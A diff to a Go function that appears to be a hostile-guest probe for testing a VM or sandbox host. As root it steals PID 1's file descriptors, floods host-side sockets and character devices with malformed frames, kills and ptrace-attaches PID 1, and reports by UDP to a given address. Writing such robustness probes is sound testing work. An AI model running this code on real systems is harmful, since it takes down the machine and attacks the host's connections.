@@ -269,31 +269,35 @@ func sniff(args []string) {
 
 // agent: what root can do to the agent of its own machine. It is the guest's
 // own, so nothing here is refused for sure; what matters is what the host does
-// then. A datagram to the given address says that all was tried.
+// then. A datagram to the given address says that all was tried but its death.
 func agent(args []string) {
-	for _, s := range []unix.Signal{unix.SIGKILL, unix.SIGSTOP, unix.SIGSEGV, unix.SIGHUP, unix.SIGQUIT} {
-		_ = unix.Kill(1, s)
-	}
+	begun()
 	pidfd, _, errno := unix.Syscall(unix.SYS_PIDFD_OPEN, 1, 0, 0)
 	for fd := range uintptr(32) {
 		if errno != 0 {
 			break
 		}
-		got, _, err := unix.Syscall(unix.SYS_PIDFD_GETFD, pidfd, fd, 0)
-		if err != 0 {
+		got, _, errno := unix.Syscall(unix.SYS_PIDFD_GETFD, pidfd, fd, 0)
+		if errno != 0 {
 			continue
 		}
-		if _, err := unix.Getsockname(int(got)); err == nil {
+		var st unix.Stat_t
+		_, err := unix.Getsockname(int(got))
+		if err == nil || unix.Fstat(int(got), &st) == nil && st.Mode&unix.S_IFMT == unix.S_IFCHR {
 			// Frames that no agent sends, on connections that are the host's.
+			_ = unix.SetNonblock(int(got), true)
 			_, _ = unix.Write(int(got), bytes.Repeat([]byte{0xff, 0xfe, 0, 1}, 4096))
 			_ = unix.Shutdown(int(got), unix.SHUT_RDWR)
 		}
 	}
-	_ = unix.PtraceAttach(1)
-	c, err := net.Dial("udp", args[0])
-	if err != nil {
-		return
+	for _, s := range []unix.Signal{unix.SIGKILL, unix.SIGSTOP, unix.SIGHUP, unix.SIGQUIT} {
+		_ = unix.Kill(1, s)
 	}
-	_, _ = c.Write([]byte(args[1]))
+	if c, err := net.Dial("udp", args[0]); err == nil {
+		_, _ = c.Write([]byte(args[1]))
+	}
+	// And what may be its end, and so the machine's.
+	_ = unix.Kill(1, unix.SIGSEGV)
+	_ = unix.PtraceAttach(1)
 	select {} // holds on to it
 }
